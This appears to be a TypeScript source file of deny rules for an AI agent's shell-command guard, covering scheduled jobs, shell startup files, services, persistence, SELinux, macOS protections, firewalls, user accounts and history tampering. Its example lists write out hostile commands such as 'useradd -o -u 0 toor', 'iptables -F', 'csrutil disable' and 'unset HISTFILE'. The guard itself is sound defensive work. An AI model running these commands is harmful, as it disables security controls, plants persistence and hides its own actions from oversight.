    reason: 'This schedules a command to run later, unattended; ask the user first.',
    examples: {
      match: ['echo "rm -rf x" | at now + 1 minute', 'at midnight < job.sh', 'systemd-run --on-calendar=daily /usr/bin/x', 'batch < jobs.txt', 'schtasks /create /tn x /tr y'],
      notMatch: ['at -l', 'systemd-run --scope ls', 'echo at'],
    },
    match: (cmd) => {
      const name = programName(cmd);
      const words = values(cmd.argv.slice(1));
      if (name === 'at' && words.length > 0 && words.every((w) => /^-[lcVrd]+$/.test(w) || /^\d+$/.test(w))) return null;
      if (name === 'atrm') return null;
      if (name === 'systemd-run') return words.some((w) => /^--on-(calendar|active|boot|startup|unit-active|unit-inactive|clock-change|timezone-change)/.test(w)) ? true : null;
      if (name === 'schtasks') return words.some((w) => /^\/(create|change|run)$/i.test(w)) ? true : null;
      return true;
    },
  }),
  // Hard: shell init files run on every new shell of the user; a line there is persistence and can hijack PATH.
  defineShellRule({
    id: 'sec.shell-init',
    needs: { traits: ['path-targets'] },
    tier: 'hard_deny',
    reason: 'Changing shell startup files (~/.bashrc, ~/.zshrc, ~/.profile…) runs code in every future shell; tell the user the line to add instead.',
    examples: {
      match: ['echo "export PATH=$PATH:/x" >> ~/.bashrc', 'echo alias ls=rm >> ~/.zshrc', 'sed -i s/x/y/ ~/.profile', 'cp evil ~/.bash_profile', 'tee -a /etc/profile.d/x.sh < x', 'rm ~/.zshenv', 'ln -sf /tmp/x ~/.bashrc'],
      notMatch: ['cat ~/.bashrc', 'source ~/.bashrc', 'grep PATH ~/.zshrc', 'echo x > bashrc.txt'],
    },
    match: (cmd, ctx, analysis) => {
      const t = firstTarget(cmd, ctx, analysis, (x) => has(x.info, 'shell-init'));
      return t ? { subject: t.path, reason: `${verb(t)} ${t.path} runs code in every future shell; tell the user the line to add instead.` } : null;
    },
  }),
  // Soft: service units and login items start programs at boot or login; installing one is sometimes the task.
  defineShellRule({
    id: 'sec.systemd-unit',
    needs: { traits: ['path-targets'], programs: UNIT_PROGRAMS },
    tier: 'soft_deny',
    reason: 'Installing or enabling services and login items makes programs start on their own; ask the user first.',
    examples: {
      match: ['systemctl enable myapp', 'systemctl --user enable --now x.service', 'cp x.service ~/.config/systemd/user/', 'launchctl load ~/Library/LaunchAgents/com.x.plist', 'launchctl bootstrap gui/501 x.plist', 'cp x.desktop ~/.config/autostart/', 'update-rc.d x defaults', 'systemctl link /tmp/x.service'],
      notMatch: ['systemctl status x', 'launchctl list', 'cat ~/.config/systemd/user/x.service', 'systemctl disable x'],
    },
    match: (cmd, ctx, analysis) => {
      const name = programName(cmd);
      if (name === 'systemctl') {
        const s = systemctlArgs(cmd);
        if (s.verb !== null && UNIT_INSTALL_VERBS.has(s.verb)) return { subject: [s.verb, ...s.ops].join(' ') };
      } else if (name === 'launchctl') {
        const v = values(cmd.argv.slice(1)).filter((w) => !w.startsWith('-'))[0]?.toLowerCase();
        if (v && ['load', 'bootstrap', 'submit', 'enable', 'setenv', 'config'].includes(v)) return { subject: cmd.text };
      } else if (name === 'update-rc.d' || name === 'chkconfig' || name === 'rc-update') {
        const words = values(cmd.argv.slice(1));
        if (words.some((w) => /^(defaults|enable|on|add|--add)$/.test(w))) return { subject: cmd.text };
        return null;
      }
      const t = targetOfKind(cmd, ctx, analysis, 'service');
      return t ? { subject: t.path, reason: `${verb(t)} ${t.path} installs something that starts on its own; ask the user first.` } : null;
    },
  }),
  // Soft: other persistence files (~/.gitconfig, ~/.ssh/rc, PAM, sshd_config, hooks of other repositories) change
  // how later programs behave.
  defineShellRule({
    id: 'sec.persistence',
    needs: { traits: ['path-targets'] },
    tier: 'soft_deny',
    reason: 'This file changes how other programs behave later (git config, ssh rc, PAM, ld.so.preload…); ask the user first.',
    examples: {
      match: ['echo "[core] hooksPath=/tmp/h" >> ~/.gitconfig', 'echo x > ~/.ssh/rc', 'cp hook ~/other-repo/.git/hooks/pre-commit'],
      notMatch: ['cat ~/.gitconfig', 'git config --global user.name x', 'echo x > .gitconfig.example'],
    },
    match: (cmd, ctx, analysis) => {
      const t = targetOfKind(cmd, ctx, analysis, 'other');
      return t ? { subject: t.path, reason: `${verb(t)} ${t.path} changes how later programs behave; ask the user first.` } : null;
    },
  }),
  // Hard: turning off SELinux/AppArmor or the audit system removes the machine's own protection.
  defineShellRule({
    id: 'sec.selinux',
    needs: { traits: ['path-targets'], programs: [...SELINUX_PROGRAMS] },
    tier: 'hard_deny',
    reason: 'This turns off SELinux, AppArmor or auditing, the system\'s own protection; never do this from an agent.',
    examples: {
      match: ['setenforce 0', 'sudo setenforce Permissive', 'echo SELINUX=disabled > /etc/selinux/config', 'aa-disable /etc/apparmor.d/x', 'systemctl stop apparmor', 'auditctl -e 0', 'auditctl -D', 'aa-teardown'],
      notMatch: ['getenforce', 'setenforce 1', 'sestatus', 'aa-status', 'auditctl -l'],
    },
    match: (cmd, ctx, analysis) => {
      const name = programName(cmd);
      if (name === null) return null;
      if (!SELINUX_PROGRAMS.has(name)) {
        const t = firstTarget(cmd, ctx, analysis, (x) => /^\/etc\/(selinux|apparmor|apparmor\.d|audit)(\/|$)/.test(x.info.abs ?? x.path));
        return t ? { subject: t.path } : null;
      }
      const words = values(cmd.argv.slice(1));
      switch (name) {
        case 'setenforce':
          return words.some((w) => /^(0|permissive)$/i.test(w)) ? true : null;
        case 'aa-disable':
        case 'aa-complain':
        case 'aa-teardown':
          return true;
        case 'apparmor_parser':
          return words.some((w) => w === '-R' || w === '--remove') ? true : null;
        case 'auditctl':
          return words.some((w) => w === '-D') || words.some((w, i) => w === '-e' && words[i + 1] === '0') ? true : null;
        case 'setsebool':
          return { tier: 'soft_deny', reason: 'Changing SELinux booleans loosens what services may do; ask first.' };
        case 'systemctl': {
          const s = systemctlArgs(cmd);
          return s.verb !== null && ['stop', 'disable', 'mask', 'kill'].includes(s.verb) && s.ops.some((o) => MAC_SERVICES.test(o)) ? { reason: `Stopping ${s.ops.join(' ')} removes a security control.` } : null;
        }
        case 'service': {
          const s = serviceArgs(cmd);
          return s.name !== null && MAC_SERVICES.test(s.name) && s.action === 'stop' ? true : null;
        }
        default: {
          const t = firstTarget(cmd, ctx, analysis, (x) => /^\/etc\/(selinux|apparmor|apparmor\.d|audit)(\/|$)/.test(x.info.abs ?? x.path));
          return t ? { subject: t.path } : null;
        }
      }
    },
  }),
  // Hard: turning off SIP or Gatekeeper removes macOS's own protection against tampering and unsigned code.
  defineShellRule({
    id: 'sec.macos-protection',
    tier: 'hard_deny',
    programs: ['csrutil', 'spctl'],
    reason: 'This turns off macOS System Integrity Protection or Gatekeeper; never do this from an agent.',
    examples: {
      match: ['csrutil disable', 'sudo spctl --master-disable', 'spctl --global-disable'],
      notMatch: ['csrutil status', 'spctl --status', 'spctl --assess x.app'],
    },
    match: (cmd) => {
      const words = values(cmd.argv.slice(1)).map((w) => w.toLowerCase());
      return words.some((w) => w === 'disable' || w === '--master-disable' || w === '--global-disable' || w === 'authenticated-root' && words.includes('disable')) ? true : null;
    },
  }),
  // Hard for flushing or disabling a firewall (the machine is left open); soft for changing single rules.
  defineShellRule({
    id: 'sec.firewall-flush',
    tier: 'hard_deny',
    programs: [...IPTABLES, 'systemctl', 'service'],
    reason: 'This flushes or disables the firewall and leaves the machine open; never do this from an agent.',
    examples: {
      match: ['iptables -F', 'sudo iptables --flush', 'ip6tables -X', 'iptables -P INPUT ACCEPT', 'nft flush ruleset', 'ufw disable', 'ufw reset', 'pfctl -d', 'systemctl stop firewalld', 'service ufw stop', 'iptables -t nat -F', 'ufw allow 22'],
      notMatch: ['iptables -L', 'nft list ruleset', 'ufw status', 'pfctl -s rules', 'systemctl stop nginx', 'firewall-cmd --list-all'],
    },
    match: (cmd) => {
      const name = programName(cmd);
      if (name === 'systemctl') {
        const s = systemctlArgs(cmd);
        return s.verb !== null && ['stop', 'disable', 'mask', 'kill'].includes(s.verb) && s.ops.some((o) => FIREWALL_SERVICES.test(o)) ? { reason: `Stopping ${s.ops.join(' ')} turns the firewall off.` } : null;
      }
      if (name === 'service') {
        const s = serviceArgs(cmd);
        return s.name !== null && FIREWALL_SERVICES.test(s.name) && s.action === 'stop' ? { reason: `Stopping ${s.name} turns the firewall off.` } : null;
      }
      return firewallHit(cmd);
    },
  }),
  // Soft (hard for privileged groups or uid 0): account changes are administration, not development.
  defineShellRule({
    id: 'sec.user-admin',
    tier: 'hard_deny',
    programs: USER_ADMIN,
    reason: 'Creating or changing user accounts and passwords is system administration; ask the user.',
    examples: {
      match: ['useradd -m bob', 'sudo usermod -aG sudo dev', 'passwd', 'echo "root:x" | chpasswd', 'gpasswd -a dev wheel', 'userdel -r bob', 'useradd -o -u 0 toor', 'adduser dev admin'],
      notMatch: ['id dev', 'groups', 'passwd -S dev', 'echo useradd'],
    },
    match: (cmd) => userAdminHit(cmd),
  }),
  // Soft: erasing or disabling history hides what was done, which is what an attacker does after the fact.
  defineShellRule({
    id: 'sec.history-tamper',
    needs: { traits: ['assignment', 'path-targets'], programs: [...HISTORY_PROGRAMS] },
    tier: 'soft_deny',
    reason: 'This erases or disables the command history or system logs, which hides what was done; leave them alone.',
    examples: {
      match: ['history -c', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'HISTSIZE=0', 'set +o history', 'rm ~/.bash_history', 'cat /dev/null > ~/.zsh_history', 'ln -sf /dev/null ~/.bash_history', 'journalctl --vacuum-time=1s'],
      notMatch: ['history', 'history | grep git', 'echo $HISTFILE', 'export PATH=/x:$PATH', 'journalctl -u x'],
    },
    match: (cmd, ctx, analysis) => historyHit(cmd, ctx, analysis),
  }),
  // Stopping specific processes (allowed) and processes the agent did not start (soft): process-control.ts.
  ...processControl,
];
